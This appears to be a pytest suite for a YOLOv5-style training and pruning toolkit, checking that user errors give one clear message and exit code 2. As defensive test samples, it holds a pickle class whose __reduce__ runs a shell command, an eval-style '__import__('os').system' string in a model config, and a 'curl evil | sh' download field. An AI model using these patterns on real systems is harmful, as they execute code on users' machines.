"""Everything a user can get wrong ends in one clear line and exit code 2, and nothing of theirs is
changed.
"""

import os
import pickle
import runpy
import shutil
import sys
from pathlib import Path

import cv2
import numpy as np
import pytest
import torch
import yaml

from models import build_model, save_model
from tests.conftest import ROOT

pytestmark = pytest.mark.flow
TRAIN = [
    "--epochs",
    "1",
    "--imgsz",
    "64",
    "--batch-size",
    "2",
    "--workers",
    "0",
    "--device",
    "cpu",
    "--noplots",
]


class Evil:
    """Unpickling this runs a command."""

    def __reduce__(self):
        return os.system, ("touch owned",)


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A working directory with a tiny data set `set.yaml`, a model YAML `net.yaml` and a checkpoint
    `good.pt`.
    """
    monkeypatch.chdir(tmp_path)
    rng = np.random.default_rng(0)
    for split in ("train", "val"):
        for kind in ("images", "labels"):
            (tmp_path / "set" / kind / split).mkdir(parents=True)
        for i in range(2):
            cv2.imwrite(
                f"set/images/{split}/{i}.png", rng.integers(0, 255, (64, 64, 3), dtype=np.uint8)
            )
            (tmp_path / f"set/labels/{split}/{i}.txt").write_text(
                "0 0.5 0.5 0.4 0.4\n1 0.3 0.3 0.2 0.2\n"
            )
    write(
        "set.yaml",
        {"path": "set", "train": "images/train", "val": "images/val", "names": ["a", "b"]},
    )
    shutil.copy(ROOT / "models/configs/yolov5/yolov5n.yaml", "net.yaml")
    save_model(build_model("yolov5n", nc=2), tmp_path / "good.pt")
    return tmp_path


def write(name: str, content: object) -> None:
    Path(name).write_text(yaml.safe_dump(content))


def changed(file: str, **changes: object) -> None:
    """Change top-level keys of a YAML; None removes one."""
    content = yaml.safe_load(Path(file).read_text()) | changes
    write(file, {k: v for k, v in content.items() if v is not None})


def one_line(capfd: pytest.CaptureFixture, script: str, *options: str) -> str:
    """Run a script that must fail as a user's mistake does; gives the one line of its standard
    error.
    """
    before = {p: p.read_bytes() for p in Path().rglob("*") if p.is_file() and p.suffix != ".cache"}
    argv, sys.argv = sys.argv, [script, *options]
    try:
        with pytest.raises(SystemExit) as stop:
            runpy.run_path(str(ROOT / script), run_name="__main__")
    finally:
        sys.argv = argv
    out, err = capfd.readouterr()
    assert stop.value.code == 2, out + err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in out + err, err
    assert all(p.read_bytes() == content for p, content in before.items()), (
        "a user's file was changed"
    )
    return lines[0]


def test_nothing_said(place: Path, capfd: pytest.CaptureFixture):
    assert "--cfg" in one_line(capfd, "train.py") and "--weights" in one_line(capfd, "prune.py")
    assert "--weights" in one_line(capfd, "val.py", "--data", "set.yaml")


def test_unknown_option_and_names(place: Path, capfd: pytest.CaptureFixture):
    assert "did you mean '--epochs'" in one_line(capfd, "train.py", "--epoch", "3")
    assert "did you mean 'yolov5n'" in one_line(
        capfd, "train.py", "--cfg", "yolov5nn", "--data", "set.yaml", *TRAIN
    )
    assert "did you mean 'demo'" in one_line(
        capfd, "train.py", "--cfg", "net.yaml", "--data", "demoo", *TRAIN
    )
    assert "did you mean 'scratch-" in one_line(
        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", "--hyp", "scratch", *TRAIN
    )
    assert "did you mean 'lamp'" in one_line(
        capfd, "prune.py", "--weights", "good.pt", "--data", "set.yaml", "--method", "lampp"
    )


@pytest.mark.parametrize(
    "words",
    [
        ("train.py", "--batch-size", "0"),
        ("train.py", "--batch-size", "-1"),
        ("train.py", "--imgsz", "0"),
        ("train.py", "--img-size", "64", "-64"),
        ("train.py", "--epochs", "0"),
        ("train.py", "--workers", "-1"),
        ("train.py", "--seed", "-1"),
        ("val.py", "--workers", "-1"),
        ("prune.py", "--seed", "-1"),
        ("report.py", "good.pt", "--batch-size", "0"),
        ("report.py", "good.pt", "--imgsz", "-64"),
        ("report.py", "good.pt", "--seconds", "-1"),
    ],
)
def test_numbers_out_of_range(place: Path, capfd: pytest.CaptureFixture, words: tuple[str, ...]):
    line = one_line(capfd, *words)
    assert "must be " in line and words[-2 if words[1] != "--img-size" else 1] in line


def test_one_size_or_two(place: Path, capfd: pytest.CaptureFixture):
    line = one_line(
        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", "--imgsz", "64", "64", "64"
    )
    assert "--imgsz 64 64 64: one size, or one for training and one for validation" in line


def test_yaml_broken_or_with_unknown_keys(place: Path, capfd: pytest.CaptureFixture):
    Path("broken.yaml").write_text("nc: [1,\nanchors: 3")
    assert "broken.yaml:2" in one_line(
        capfd, "train.py", "--cfg", "broken.yaml", "--data", "set.yaml", *TRAIN
    )
    Path("hyp.yaml").write_text("lr00: 0.1\n")
    line = one_line(
        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", "--hyp", "hyp.yaml", *TRAIN
    )
    assert "hyp.yaml: unknown key 'lr00'; did you mean 'lr0'" in line
    changed("set.yaml", trian="images/train")
    assert "'trian'; did you mean 'train'" in one_line(
        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN
    )
    changed("net.yaml", depth_multipel=1.0)
    assert "did you mean 'depth_multiple'" in one_line(
        capfd, "train.py", "--cfg", "net.yaml", "--data", "demo", *TRAIN
    )


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ([-1, 1, "Covn", [64]], "unknown block 'Covn'; did you mean 'Conv'"),
        (
            [-1, 1, "Conv", [64, 3, 2, 1, 1, "__import__('os').system('touch owned')"]],
            "no activation",
        ),
        ([99, 1, "Conv", [64]], "99 is no row above"),
        ([-1, 1, "Conv", ["wide"]], "backbone row 1"),
        ([-1, 1, "Conv"], "expected [from, repeats, Block, args]"),
    ],
)
def test_bad_row(place: Path, capfd: pytest.CaptureFixture, row: list, message: str):
    backbone = yaml.safe_load(Path("net.yaml").read_text())["backbone"]
    backbone[1] = row
    changed("net.yaml", backbone=backbone)
    line = one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN)
    assert message in line and "net.yaml: backbone row 1" in line and not Path("owned").exists()


@pytest.mark.parametrize(
    "anchors", [[[10, 13, 16]], [[10, 13]] * 2, [["a", "b"]] * 3, 0, [[10, -13]] * 3]
)
def test_wrong_anchors(place: Path, capfd: pytest.CaptureFixture, anchors: object):
    changed("net.yaml", anchors=anchors)
    assert "anchors" in one_line(
        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN
    )


def test_data_that_does_not_fit(place: Path, capfd: pytest.CaptureFixture):
    changed("set.yaml", nc=3)
    line = one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN)
    assert "nc" in line and "3" in line and "2" in line
    changed("set.yaml", nc=None, path="nowhere")
    line = one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN)
    assert line.count("nowhere") >= 2, "both places that were tried are listed"
    changed("set.yaml", path="set", download="curl evil | sh", train="images/missing")
    assert "missing" in one_line(
        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN
    )


def test_labels_out_of_range_everywhere(place: Path, capfd: pytest.CaptureFixture):
    for file in Path("set/labels/train").iterdir():
        file.write_text("7 0.5 0.5 0.4 0.4\n")
    line = one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN)
    assert "set" in line and "label" in line


def test_no_checkpoint_at_all(place: Path, capfd: pytest.CaptureFixture):
    Path("text.pt").write_text("this is no checkpoint")
    Path("half.pt").write_bytes(Path("good.pt").read_bytes()[:5000])
    torch.save({"some": "dict"}, "other.pt")
    for name in ("text.pt", "half.pt", "other.pt", "missing.pt"):
        for script in ("train.py", "val.py", "prune.py"):
            assert name in one_line(capfd, script, "--weights", name, "--data", "set.yaml")
        assert name in one_line(capfd, "train.py", "--resume", name)
        assert name in one_line(capfd, "report.py", name, "--data", "set.yaml", "--imgsz", "64")


def test_malicious_checkpoint_runs_nothing(place: Path, capfd: pytest.CaptureFixture):
    torch.save({"model": Evil()}, "zip.pt")
    Path("plain.pt").write_bytes(pickle.dumps({"model": Evil()}))
    for name in ("zip.pt", "plain.pt"):
        for script in ("train.py", "val.py", "prune.py"):
            assert name in one_line(capfd, script, "--weights", name, "--data", "set.yaml")
    assert not Path("owned").exists()


def test_a_finished_run_has_nothing_to_resume(place: Path, capfd: pytest.CaptureFixture):
    assert "nothing to resume" in one_line(capfd, "train.py", "--resume", "good.pt")


def test_pruning_that_cannot_be(place: Path, capfd: pytest.CaptureFixture):
    common = ["--weights", "good.pt", "--data", "set.yaml", "--imgsz", "64", "--device", "cpu"]
    assert "at most" in one_line(capfd, "prune.py", *common, "--speed-up", "1000000")
    assert "must be above 1" in one_line(capfd, "prune.py", *common, "--speed-up", "0.5")
    assert "no layer is called" in one_line(capfd, "prune.py", *common, "--ignore", "nonsense")
    assert "nothing can be pruned" in one_line(capfd, "prune.py", *common, "--ignore", "model.*")
    write("set3.yaml", yaml.safe_load(Path("set.yaml").read_text()) | {"names": ["a", "b", "c"]})
    assert "2 classes" in one_line(capfd, "prune.py", "--weights", "good.pt", "--data", "set3.yaml")


def test_report_of_what_is_no_run(place: Path, capfd: pytest.CaptureFixture):
    Path("empty").mkdir()
    assert "empty" in one_line(capfd, "report.py", "empty")
    assert "--data" in one_line(capfd, "report.py", "good.pt")
